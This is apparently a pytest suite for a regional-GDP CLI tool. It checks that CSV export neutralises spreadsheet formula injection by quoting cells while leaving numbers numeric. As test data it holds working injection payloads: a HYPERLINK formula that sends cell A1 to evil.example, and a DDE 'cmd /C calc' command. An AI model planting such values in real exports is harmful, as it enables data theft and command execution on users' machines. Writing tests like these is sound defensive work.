"""CSV cells: a text a spreadsheet would evaluate gets a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from regiondev.cli.app import app
from regiondev.csvcells import FORMULA_TRIGGERS, cell, frame_to_csv
from tests.user_catalogs import SOURCE, gdp

runner = CliRunner()

HOSTILE_ID = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
HOSTILE_QUOTE = "=1+cmd|' /C calc'!A0 地区生产总值3902.4亿元"  # the figure must be in it


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),  # a formula
        ("+1+1", "'+1+1"),  # Excel reads +1+1 as =1+1
        ("-2+3", "'-2+3"),  # and -2+3 as =-2+3: not a plain number
        ("@SUM(A1)", "'@SUM(A1)"),  # Lotus-style function
        ("\t=1", "'\t=1"),  # a leading tab
        ("\r=1", "'\r=1"),  # a leading carriage return
        ("-3.9", "-3.9"),  # a plain number is data: left as it is
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        ("−3.1 %", "−3.1 %"),  # U+2212 minus starts no formula
        ("zz21-gdp-2020", "zz21-gdp-2020"),  # a trigger inside the text is harmless
        ("", ""),
        (-3.9, -3.9),  # numbers are never touched
        (None, None),
    ],
)
def test_cell(value: object, expected: object) -> None:
    assert cell(value) == expected


@given(st.text())
def test_no_text_cell_leaves_a_formula_trigger_first(text: str) -> None:
    out = cell(text)
    # either neutralised, or it starts with no trigger, or it is a plain number as printed
    assert out == text or out == "'" + text
    if out == text and text.startswith(FORMULA_TRIGGERS):
        assert float(text) == float(text)  # parses: a plain number, kept numeric


def test_frame_to_csv_keeps_numbers_and_neutralises_text_and_lists() -> None:
    frame = pl.DataFrame(
        {
            "id": ["=A1", "ok"],
            "value": [-3.9, 2.0],
            "ids": [["@x", "y"], ["a"]],
            "figure": ["-3.9", "+1+1"],
        }
    )
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame))))
    # the float column keeps -3.9 as a number; the list joins "@x;y" then gets its quote
    assert rows == [
        ["id", "value", "ids", "figure"],
        ["'=A1", "-3.9", "'@x;y", "-3.9"],
        ["ok", "2.0", "a", "'+1+1"],
    ]


def _hostile_catalog(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.toml"
    record = gdp("placeholder", 3902.4, period="2024")
    record = record.replace('"placeholder"', _toml_str(HOSTILE_ID))
    record = record.replace(
        'quote = "地区生产总值3902.4亿元"', f"quote = {_toml_str(HOSTILE_QUOTE)}"
    )
    path.write_text(SOURCE + record, encoding="utf-8")
    return path


def _toml_str(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.mark.parametrize(
    "args",
    [
        ["catalog", "--region", "zhuzhou"],
        ["series", "zhuzhou", "gdp"],
        ["growth", "--region", "zhuzhou"],
        ["check"],
    ],
)
def test_cli_csv_neutralises_hostile_catalog_values(tmp_path: Path, args: list[str]) -> None:
    result = runner.invoke(
        app, [*args, "--catalog", str(_hostile_catalog(tmp_path)), "--format", "csv"]
    )
    assert result.exit_code in (0, 1), result.stderr
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith(("+", "-")) and not _is_number(c)]
    if args[0] in ("catalog", "series"):
        assert "'" + HOSTILE_ID in cells
    if args[0] == "catalog":
        assert "'" + HOSTILE_QUOTE in cells


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


DECLINE = """
[[observation]]
id = "x-gdp-growth-2023"
source = "x-bulletin"
region = "zhuzhou"
indicator = "gdp_growth"
status = "actual"
period = "2023"
figure = "下降3.9%"
value = -3.9
unit = "percent"
bound = "exact"
basis = "real"
quote = "地区生产总值下降3.9%"
"""


def test_numeric_cells_stay_numeric_in_cli_csv(tmp_path: Path) -> None:
    path = tmp_path / "decline.toml"
    path.write_text(SOURCE + DECLINE, encoding="utf-8")
    out = runner.invoke(
        app, ["catalog", "--catalog", str(path), "--format", "csv", "--region", "zhuzhou"]
    ).stdout
    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["id"] == "x-gdp-growth-2023")
    # 下降3.9% reads -3.9: a number in the CSV, no quote before it; the figure text keeps its
    # Chinese (no trigger), the low and high ends are the value (exact)
    assert (row["value"], row["low"], row["high"]) == ("-3.9", "-3.9", "-3.9")
    assert row["figure"] == "下降3.9%"


def test_extract_csv_neutralises_a_hostile_text(tmp_path: Path) -> None:
    text = tmp_path / "=evil.txt"
    text.write_text("=HYPERLINK(1)株洲市2020年地区生产总值3105.8亿元。\n", encoding="utf-8")
    result = runner.invoke(app, ["extract", str(text), "--format", "csv", "-q"])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [c for row in rows[1:] for c in row]
    assert rows[1:] and not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))]
    # 3105.8亿元 = 3105.8 in 亿元: the value cell is a plain number
    assert "3105.8" in cells
